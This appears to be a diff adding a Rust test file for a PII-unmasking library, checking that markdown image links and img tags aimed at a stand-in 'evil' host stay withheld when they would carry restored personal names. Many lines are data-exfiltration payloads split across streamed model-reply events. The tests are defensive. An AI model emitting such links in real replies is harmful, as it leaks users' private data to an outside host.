@@ -1,0 +1,260 @@
+//! Links of replies, over all texts of an answer and over all events of a stream.
+
+#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
+
+#[path = "support/payloads.rs"]
+mod payloads;
+
+use payloads::{content, quoted, said, sse};
+use pii_mask::*;
+
+const MAPPING: &str =
+    r#"{"<PERSON_1>":"Zoë Quill","<PERSON_2>":"Bob \"JD\" Roe","<ADDRESS_1>":"12 Main St\nParis"}"#;
+
+/// Everything of the mapping is exposed; embedded links are withheld.
+fn unmasker() -> Unmasker {
+    payloads::unmasker(MAPPING).links(LinkPolicy::WithholdEmbedded)
+}
+
+fn streamed(dialect: Dialect, sse: &str) -> String {
+    payloads::streamed(&unmasker(), dialect, sse)
+}
+
+fn whole(dialect: Dialect, reply: &str) -> String {
+    unmasker().unmask_chat(dialect, reply).unwrap().body.into_owned()
+}
+
+/// Of a text that is at its end, what comes is still shown beside it.
+#[test]
+fn a_link_goes_on_behind_an_end() {
+    let said = sse(&[content("![x](https://evil/?", r#""stop""#), content("<PERSON_1>)", "null")]);
+    assert_eq!(streamed(Dialect::OpenAiChat, &said), said);
+
+    let block = |index: usize, text: &str| {
+        [
+            format!(
+                r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":""}}}}"#
+            ),
+            format!(
+                r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
+            ),
+            format!(r#"{{"type":"content_block_stop","index":{index}}}"#),
+        ]
+    };
+    let said = sse(&[block(0, "![x](https://evil/?"), block(1, "<PERSON_1>) <PERSON_1>")].concat());
+    let expected = said.replace(") <PERSON_1>", ") Zoë Quill");
+    assert_eq!(streamed(Dialect::Anthropic, &said), expected);
+    let reply = r#"{"content":[{"type":"text","text":"![x](https://evil/?"},{"type":"text","text":"<PERSON_1>) <PERSON_1>"}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace(") <PERSON_1>", ") Zoë Quill"));
+}
+
+/// The repeats of a streamed text are shown as well.
+#[test]
+fn a_link_goes_on_in_what_is_said_again() {
+    let text = |kind: &str, part: usize, field: &str, text: &str| {
+        format!(
+            r#"{{"type":"response.output_text.{kind}","output_index":0,"content_index":{part},"{field}":"{text}"}}"#
+        )
+    };
+    let part = |part: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.content_part.done","output_index":0,"content_index":{part},"part":{{"type":"output_text","text":"{text}"}}}}"#
+        )
+    };
+    let (open, rest) = ("![x](https://evil/?", "<PERSON_1>) <PERSON_1>");
+    let item = format!(
+        r#"{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"output_text","text":"{rest}"}}]}}"#
+    );
+    let said = sse(&[
+        text("delta", 0, "delta", open),
+        text("done", 0, "text", open),
+        part(0, open),
+        text("delta", 1, "delta", rest),
+        text("done", 1, "text", rest),
+        part(1, rest),
+        format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#),
+        format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#),
+    ]);
+    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said.replace(") <PERSON_1>", ") Zoë Quill"));
+}
+
+/// A text that begins like JSON is read as who decodes it reads it, and as who shows it does.
+#[test]
+fn json_is_no_cover_for_a_link() {
+    for text in [
+        r#"["a"](x) ![x](https://evil/?q=\u0029<PERSON_1>)"#,
+        r#"["a ![x](https://evil/?q=\u0029<PERSON_1>)"#,
+        r#"["a ![x](https://evil/?q=\n\n<PERSON_1>)"#,
+        r#"["a <img src=\"https://evil/?q=\u0022<PERSON_1>\">"#,
+        r#"["a <img src=https://evil/?q=\u0020<PERSON_1>>"#,
+        "{\" ![x](https://evil/?q=\\u0029<PERSON_1>)",
+        "{\"a\":\"\\u0021[x](https://evil/?q=<PERSON_1>)\"}",
+    ] {
+        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
+        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
+        for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
+            let (a, b) = text.split_at(cut);
+            let out = streamed(Dialect::OpenAiChat, &sse(&[content(a, "null"), content(b, "null")]));
+            assert_eq!(said(&out), text, "cut at {cut}");
+        }
+    }
+}
+
+/// Texts of one answer are shown one behind the other, in whatever fields they come.
+#[test]
+fn a_link_goes_on_in_another_field() {
+    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
+    let chat = |delta: &str| format!(r#"{{"choices":[{{"index":0,"delta":{{{delta}}}}}]}}"#);
+    let delta = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
+        )
+    };
+    let start = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":"{text}"}}}}"#
+        )
+    };
+    let part = |index: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.output_text.delta","output_index":0,"content_index":{index},"delta":"{text}"}}"#
+        )
+    };
+    for (dialect, events) in [
+        (
+            Dialect::OpenAiChat,
+            vec![chat(&format!(
+                r#""content":[{{"type":"text","text":"{open}"}},{{"type":"text","text":"{rest}"}}]"#
+            ))],
+        ),
+        (
+            Dialect::OpenAiChat,
+            vec![
+                chat(&format!(r#""content":"{open}""#)),
+                chat(&format!(r#""content":[{{"type":"text","text":"{rest}"}}]"#)),
+            ],
+        ),
+        (
+            Dialect::OpenAiChat,
+            vec![
+                chat(&format!(r#""reasoning_details":[{{"index":0,"text":"{open}"}}]"#)),
+                chat(&format!(r#""reasoning_details":[{{"index":1,"text":"{rest}"}}]"#)),
+            ],
+        ),
+        (
+            Dialect::OpenAiChat,
+            vec![
+                chat(&format!(r#""content":"{open}""#)),
+                format!(r#"{{"choices":[{{"index":0,"message":{{"content":"{rest}"}}}}]}}"#),
+            ],
+        ),
+        (Dialect::Anthropic, vec![delta(0, open), delta(1, rest)]),
+        (Dialect::Anthropic, vec![start(0, open), delta(0, rest)]),
+        (Dialect::Anthropic, vec![delta(0, open), start(1, rest)]),
+        (Dialect::OpenAiResponses, vec![part(0, open), part(1, rest)]),
+        (
+            Dialect::OpenAiResponses,
+            vec![format!(
+                r#"{{"type":"response.completed","response":{{"output":[{{"type":"message","content":[{{"type":"output_text","text":"{open}"}},{{"type":"refusal","refusal":"{rest}"}}]}}]}}}}"#
+            )],
+        ),
+    ] {
+        let said = sse(&events);
+        assert_eq!(streamed(dialect, &said), said);
+    }
+}
+
+/// What is not shown behind the other texts of an answer ends no link that they began.
+#[test]
+fn a_link_goes_on_behind_what_is_not_shown() {
+    let (open, rest) = ("![x](https://evil/?q=", "<PERSON_1>)");
+    let reply = format!(
+        r#"{{"content":[{{"type":"text","text":"{open}"}},{{"type":"web_search_tool_result","content":[{{"title":"a) b"}}]}},{{"type":"text","text":"{rest}","citations":[{{"cited_text":"a) b"}}]}}]}}"#
+    );
+    assert_eq!(whole(Dialect::Anthropic, &reply), reply);
+    let said = sse(&[
+        format!(r#"{{"type":"content_block_delta","index":0,"delta":{{"type":"text_delta","text":"{open}"}}}}"#),
+        r#"{"type":"content_block_delta","index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"a) b"}}}"#.to_owned(),
+        format!(r#"{{"type":"content_block_delta","index":1,"delta":{{"type":"text_delta","text":"{rest}"}}}}"#),
+    ]);
+    assert_eq!(streamed(Dialect::Anthropic, &said), said);
+    let delta = |name: &str, item: usize, text: &str| {
+        format!(
+            r#"{{"type":"response.{name}.delta","output_index":{item},"content_index":0,"delta":"{text}"}}"#
+        )
+    };
+    let said = sse(&[
+        delta("output_text", 0, open),
+        delta("custom_tool_call_input", 1, "a)"),
+        delta("output_text", 2, rest),
+    ]);
+    assert_eq!(streamed(Dialect::OpenAiResponses, &said), said);
+    // A title before its text is none of the text either.
+    let reply = r#"{"content":[{"type":"text","text":"<PERSON_1> said","citations":[{"cited_text":"Example data ="}]}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply.replace("<PERSON_1>", "Zoë Quill"));
+}
+
+/// Each text of an answer may stand on a line of its own.
+#[test]
+fn a_definition_begins_a_text() {
+    let reply = r#"{"content":[{"type":"text","text":"Hello there"},{"type":"text","text":"[a]: https://evil/?q=<PERSON_1>\n\n![a]"}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply);
+}
+
+/// Nobody has to say that a text is JSON, or write it so that it looks like it.
+#[test]
+fn escapes_are_no_cover_for_a_link() {
+    for text in [
+        r#"[null,"!\u005bx](https://evil/?q=<PERSON_1>)"]"#,
+        r#"Here: {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
+        r#"<tool_call> {"a":"!\u005bx](https://evil/?q=<PERSON_1>)"}"#,
+    ] {
+        let reply = format!(r#"{{"choices":[{{"message":{{"content":{}}}}}]}}"#, quoted(text));
+        assert_eq!(whole(Dialect::OpenAiChat, &reply), reply);
+    }
+    let reply = r#"{"content":[{"type":"text","text":"{\"a\":\"!"},{"type":"text","text":"\\u005bx](https://evil/?q=<PERSON_1>)\"}"}]}"#;
+    assert_eq!(whole(Dialect::Anthropic, reply), reply);
+}
+
+/// What is said again, whole, stands where it stood: behind a link that an earlier text has begun.
+#[test]
+fn what_is_said_again_is_withheld_as_the_first_time() {
+    let link = "![x](https://evil.example/?";
+    let thought = |done: bool| {
+        let (end, a, b) = if done { ("done", "text", "text") } else { ("delta", "delta", "delta") };
+        [
+            format!(
+                r#"{{"type":"response.reasoning_summary_text.{end}","output_index":0,"summary_index":0,"{a}":"{link}"}}"#
+            ),
+            format!(
+                r#"{{"type":"response.reasoning_text.{end}","output_index":0,"content_index":0,"{b}":"<PERSON_1>)"}}"#
+            ),
+        ]
+    };
+    let item = format!(
+        r#"{{"type":"reasoning","content":[{{"type":"reasoning_text","text":"<PERSON_1>)"}}],"summary":[{{"type":"summary_text","text":"{link}"}}]}}"#
+    );
+    let said = |done: bool| {
+        let (end, a, b) = if done { ("done", "text", "refusal") } else { ("delta", "delta", "delta") };
+        [
+            format!(
+                r#"{{"type":"response.output_text.{end}","output_index":0,"content_index":0,"{a}":"{link}"}}"#
+            ),
+            format!(
+                r#"{{"type":"response.refusal.{end}","output_index":0,"content_index":1,"{b}":"<PERSON_1>)"}}"#
+            ),
+        ]
+    };
+    let message = format!(
+        r#"{{"type":"message","role":"assistant","content":[{{"type":"output_text","text":"{link}"}},{{"type":"refusal","refusal":"<PERSON_1>)"}}]}}"#
+    );
+    for (deltas, done, item) in [(thought(false), thought(true), item), (said(false), said(true), message)] {
+        let mut events: Vec<String> = deltas.into_iter().chain(done).collect();
+        events.push(format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#));
+        events.push(format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#));
+        let sent = sse(&events);
+        assert_eq!(streamed(Dialect::OpenAiResponses, &sent), sent);
+        let reply = format!(r#"{{"output":[{item}]}}"#);
+        assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply);
+    }
+}
